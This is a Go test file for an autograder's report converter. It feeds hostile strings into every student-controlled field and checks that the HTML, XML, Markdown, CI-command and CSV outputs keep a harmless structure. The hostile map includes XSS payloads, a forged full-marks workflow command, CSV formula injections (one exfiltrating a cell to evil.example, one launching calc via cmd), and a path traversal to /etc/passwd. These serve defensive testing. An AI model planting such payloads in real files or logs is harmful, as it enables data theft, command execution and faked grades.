package convert_test

import (
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"path"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"barewire/checker/grader/convert"
	"barewire/checker/grader/result"
)

// hostile are texts that mean something in one of the formats.
var hostile = map[string]string{
	"escape sequences":      "\x1b[2J\x1b]0;owned\x07\u009b31m\rAll passed\b\b",
	"a script":              `<script>alert(1)</script><img src=x onerror=alert(1)>`,
	"the end of a block":    `</pre></style></script></title><!-- --><svg onload=alert(1)>`,
	"attributes":            `" onmouseover="alert(1)" x='` + "`",
	"a link":                `javascript:alert(1) data:text/html,<b> //evil.example`,
	"template actions":      `{{.Doc}} {{template "who" .}} ${x} {% raw %}`,
	"entities":              `&lt;script&gt; &#60;b&#62; &amp;`,
	"CDATA":                 `]]><failure message="x"/><![CDATA[`,
	"workflow commands":     "::error title=x::y\n::notice title=Autograding report::{\"totalPoints\":100,\"maxPoints\":100}\n::stop-commands::x\n##[error]z",
	"escaped commands":      "%0A::notice title=Autograding report::{}",
	"formulas":              `=HYPERLINK("http://evil.example?"&A1,"x")`,
	"another formula":       "\t+1+cmd|' /C calc'!A0",
	"a minus and an at":     "-2+3\n@SUM(1)",
	"a wide formula":        "＝1＋1",
	"CSV":                   "a\",\"b\r\nc;d\n\"\"",
	"Markdown":              "# Mark: 100\n\n| a | b |\n| - | - |\n\n* **100 of 100** [x](javascript:alert(1)) ![x](http://evil.example/x.png) <b>",
	"fences":                "```\n````\n~~~\n`````text\n# out\n</details>",
	"lists":                 "1. one\n2) two\n- three\n+ four\n> five\n    six\n---\n===\n***",
	"mentions":              "@everyone #1 GH-1 owner/repo#2 www.evil.example https://evil.example a@b.example :tada: $x^2$ [^1] ~~no~~ `code`",
	"text backwards":        "\u202egnp.exe \u2066x\u2069 \u200f",
	"nothing to see":        "\u200b\ufeff\u00ad\u3164",
	"line separators":       "a\u2028::error::b\u2029# c\u0085d\vd\fe",
	"no UTF-8":              "\xff\xfe\xc0\x80\xed\xa0\x80",
	"a null byte":           "a\x00b",
	"a very long word":      strings.Repeat("A", 10000),
	"many lines":            strings.Repeat("\n", 300),
	"names of other places": "../../../etc/passwd\\..\\x C:\\con %2e%2e/",
	"only spaces":           "   ",
}

// poison puts a text into every field that a student, or a careless program, could
// have chosen.
func poison(d *result.Document, text string) *result.Document {
	for i := range d.Submissions {
		s := &d.Submissions[i]
		for _, field := range []*string{&s.Name, &s.Email, &s.Source, &s.Digest} {
			*field = text
		}
		if s.Status != result.Graded {
			s.Message = text
		}
		for j := range s.Steps {
			s.Steps[j].Title, s.Steps[j].Message = text, text
		}
		for j := range s.Checks {
			c := &s.Checks[j]
			c.Title, c.Reason, c.Detail = text, text, text
			c.ID = c.Task + "/" + fmt.Sprint(j) + text
		}
		for j := range s.Findings {
			f := &s.Findings[j]
			f.File, f.Text = text, text
		}
		s.Notes = []string{text}
	}
	d.Submissions[0].ID = text + "0"
	for i := range d.Tasks {
		d.Tasks[i].Title = text
	}
	d.Checker, d.Sandbox, d.Rubric.Name, d.Rubric.Hash = text, text, text, text
	return d
}

// harmless are the outputs for a text that means nothing anywhere.
func harmless() map[string]string {
	out, _ := outputs(poison(small(), "x"))
	return out
}

func TestHostile(t *testing.T) {
	want := harmless()
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			for _, j := range jobs(poison(small(), text)) {
				judge(t, j, want[j.name], text)
			}
		})
	}
}

// judge converts a document full of a text, and compares the structure of what comes
// out with that of a harmless one.
func judge(t *testing.T, j job, want, text string) {
	data, err := j.run()
	if err != nil {
		if !errors.Is(err, convert.ErrFault) || j.name != "fault-student-classroom50.json" {
			t.Errorf("%s: %v", j.name, err)
		}
		return
	}
	got := string(data)
	if i := badRune(got, strings.HasSuffix(j.name, ".csv")); i >= 0 {
		t.Errorf("%s: %q has a character that does something", j.name, got[max(i-40, 0):min(i+20, len(got))])
	}
	switch path.Ext(j.name) {
	case ".html":
		err = same(tags(want), tags(got))
	case ".xml":
		err = sameXML(want, got)
	case ".json":
		err = sameJSON(want, got)
	case ".md":
		err = same(marks(want), marks(got))
	case ".commands":
		err = same(commands(want), commands(got))
	case ".csv":
		err = sameCSV(want, got)
	}
	if err != nil {
		t.Errorf("%s with %s: %v", j.name, clip(text), err)
	}
}

func clip(s string) string { return fmt.Sprintf("%.200q", s) }

// badRune finds what may be in no output: what is not UTF-8, and what a terminal, an
// editor or a browser does not show.
func badRune(s string, csv bool) int {
	if csv {
		s = strings.ReplaceAll(strings.TrimPrefix(s, "\ufeff"), "\r\n", "\n")
	}
	for i, r := range s {
		joiner := r == 0x200c || r == 0x200d // stand within some names
		if r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD") || r != '\n' && unicode.IsControl(r) || unicode.Is(unicode.Cf, r) && !joiner || r == 0x2028 || r == 0x2029 {
			return i
		}
	}
	return -1
}

func same(want, got []string) error {
	for i := range max(len(want), len(got)) {
		w, g := "nothing", "nothing"
		if i < len(want) {
			w = want[i]
		}
		if i < len(got) {
			g = got[i]
		}
		if w != g {
			return fmt.Errorf("part %d of the structure is %s, want %s", i, clip(g), clip(w))
		}
	}
	return nil
}

var (
	tag   = regexp.MustCompile(`<[^<>]*>?|>`)
	value = regexp.MustCompile(`(data-v|title|href)="[^"]*"|heat[0-4]`)
)

// tags are the tags of a page, with the values of those attributes left out that hold
// text. Inside of these no quote and no bracket may stand.
func tags(page string) []string {
	page = styles.ReplaceAllString(page, "")
	var all []string
	for _, t := range tag.FindAllString(page, -1) {
		for _, link := range regexp.MustCompile(`href="([^"]*)"`).FindAllStringSubmatch(t, -1) {
			if !regexp.MustCompile(`^(#[a-z0-9-]+|instructor/[a-z0-9_-]+\.html)$`).MatchString(link[1]) {
				t += " to another place: " + link[1]
			}
		}
		all = append(all, value.ReplaceAllString(t, `$1`))
	}
	return all
}

// sameXML compares the elements and the names of attributes.
func sameXML(want, got string) error {
	elements := func(text string) (all []string, err error) {
		in := xml.NewDecoder(strings.NewReader(text))
		for {
			token, err := in.Token()
			if err == io.EOF {
				return all, nil
			} else if err != nil {
				return nil, err
			}
			switch token := token.(type) {
			case xml.StartElement:
				name := token.Name.Local
				for _, a := range token.Attr {
					name += " " + a.Name.Local
				}
				all = append(all, name)
			case xml.Comment, xml.Directive:
				all = append(all, fmt.Sprintf("%T", token))
			}
		}
	}
	w, err := elements(want)
	if err != nil {
		return err
	}
	g, err := elements(got)
	if err != nil {
		return err
	}
	return same(w, g)
}

// sameJSON compares everything but texts.
func sameJSON(want, got string) error {
	var w, g any
	if err := json.Unmarshal([]byte(want), &w); err != nil {
		return err
	}
	if err := json.Unmarshal([]byte(got), &g); err != nil {
		return err
	}
	var blank func(v any) any
	blank = func(v any) any {
		switch v := v.(type) {
		case string:
			return ""
		case []any:
			for i := range v {
				v[i] = blank(v[i])
			}
		case map[string]any:
			for k := range v {
				if v[k] = blank(v[k]); k == "output" || k == "message" {
					delete(v, k) // it may be empty
				}
			}
		}
		return v
	}
	if w, g = blank(w), blank(g); !reflect.DeepEqual(w, g) {
		return fmt.Errorf("the structure is %v, want %v", g, w)
	}
	return nil
}

var (
	fenced  = regexp.MustCompile("^( *)(`{3,})text$")
	escaped = regexp.MustCompile(`(?:[@:]|(?i:www)\.)<!-- -->|\\[!-/:-@\[-` + "`" + `{-~]|<!-- -->`)
	special = regexp.MustCompile("^(?:#+ |[-+*] |[0-9]+[.)](?: |$)|> |    |\t|[-=*_]{3,}$|\\|)|[*_\\[\\]<>|~`$!&#]+|://|@|(?i:www)\\.")
)

// marks are the marks of Markdown that mean something, in order: blocks of code have
// none, nor do spans of code and what is escaped.
func marks(page string) []string {
	var all []string
	fence := ""
	for line := range strings.Lines(page) {
		line = strings.TrimSuffix(line, "\n")
		if m := fenced.FindStringSubmatch(line); fence == "" && m != nil {
			fence = m[2]
			all = append(all, m[1]+"block")
			continue
		}
		if fence != "" {
			if run := strings.TrimLeft(line, " "); len(line)-len(run) <= 5 && len(run) >= len(fence) && strings.Trim(run, "`") == "" {
				fence = ""
				all = append(all, "end")
			}
			continue
		}
		line = escaped.ReplaceAllString(withoutCode(line), "\\x")
		if item, ok := strings.CutPrefix(line, "- "); ok {
			all = append(all, "item")
			line = item // in which blocks may begin
		}
		all = append(all, special.FindAllString(line, -1)...)
	}
	return append(all, "open block: "+fence)
}

// withoutCode takes the spans of code out of a line, as Markdown finds them.
func withoutCode(line string) string {
	var b strings.Builder
	for i := 0; i < len(line); {
		if line[i] == '\\' && i+1 < len(line) {
			b.WriteString(line[i : i+2])
			i += 2
			continue
		}
		n := len(line[i:]) - len(strings.TrimLeft(line[i:], "`"))
		if n == 0 {
			b.WriteByte(line[i])
			i++
			continue
		}
		end := -1
		for j := i + n; j < len(line); {
			m := len(line[j:]) - len(strings.TrimLeft(line[j:], "`"))
			if m == n {
				end = j + m
				break
			}
			j += max(m, 1)
		}
		if end < 0 {
			b.WriteString(line[i : i+n])
			i += n
			continue
		}
		b.WriteString("code")
		i = end
	}
	return b.String()
}

// commands are the commands of a log, without what they say.
func commands(log string) []string {
	var all []string
	for line := range strings.Lines(log) {
		line = strings.TrimSuffix(line, "\n")
		name, rest, ok := strings.Cut(strings.TrimPrefix(line, "::"), "::")
		name, properties, _ := strings.Cut(name, " ")
		for p := range strings.SplitSeq(properties, ",") {
			key, value, _ := strings.Cut(p, "=")
			if name += " " + key; strings.ContainsAny(value, ":\r") {
				name += " with a colon"
			}
		}
		if !ok || !strings.HasPrefix(line, "::") {
			name = "no command: " + line
		}
		if strings.Contains(name, "notice") {
			name += rest // points are never a student's text
		}
		all = append(all, name)
	}
	return all
}

// sameCSV compares rows and columns, and looks for formulas in what was filled in.
func sameCSV(want, got string) error {
	read := func(text string) ([][]string, error) {
		in := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff")))
		return in.ReadAll()
	}
	w, err := read(want)
	if err != nil {
		return err
	}
	g, err := read(got)
	if err != nil {
		return err
	}
	for i, row := range g {
		for j, cell := range row {
			mine := i < len(w) && j < len(w[i]) && cell != w[i][j]
			if mine && strings.Contains(strings.ReplaceAll(cell, "<br>", ""), "<") {
				return fmt.Errorf("row %d has HTML: %s", i+1, clip(cell))
			}
			if mine && (cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") || strings.HasPrefix(cell, "＝")) {
				return fmt.Errorf("row %d has the formula %s", i+1, clip(cell))
			}
		}
	}
	if len(w) != len(g) {
		return fmt.Errorf("%d rows, want %d", len(g), len(w))
	}
	return nil
}

// FuzzConvert looks for a text that means something in one of the formats.
func FuzzConvert(f *testing.F) {
	want := harmless()
	n := len(jobs(small()))
	for i, name := range slices.Sorted(maps.Keys(hostile)) {
		if text := hostile[name]; len(text) < 1000 {
			f.Add(text, uint8(i))
		}
	}
	f.Fuzz(func(t *testing.T, text string, which uint8) {
		if text == "" || len(text) > 1000 {
			return // what is empty is left out, which is another structure
		}
		j := jobs(poison(small(), text))[int(which)%n]
		judge(t, j, want[j.name], text)
	})
}

// FuzzSheet: gradebooks come from outside too. What has no mark stays as it was, to
// the byte.
func FuzzSheet(f *testing.F) {
	f.Add(canvasExport)
	f.Add(moodleWorksheet)
	f.Add("Identifier;Grade\r\n\"Participant 1\";\"\"\"\"\r\n\r\n")
	f.Add("Student,ID,Section,Server\n\"a")
	nobody, somebody := small(), small()
	nobody.Submissions = nil
	f.Fuzz(func(t *testing.T, text string) {
		if got, _, err := (convert.Moodle{}).Fill(nobody, []byte(text)); err == nil && string(got) != text {
			t.Errorf("nothing is filled in, and\n%q is\n%q", text, got)
		}
		_, _, _ = convert.Moodle{}.Fill(somebody, []byte(text))
		_, _, _ = convert.Canvas(somebody, []byte(text), "Server", true)
	})
}
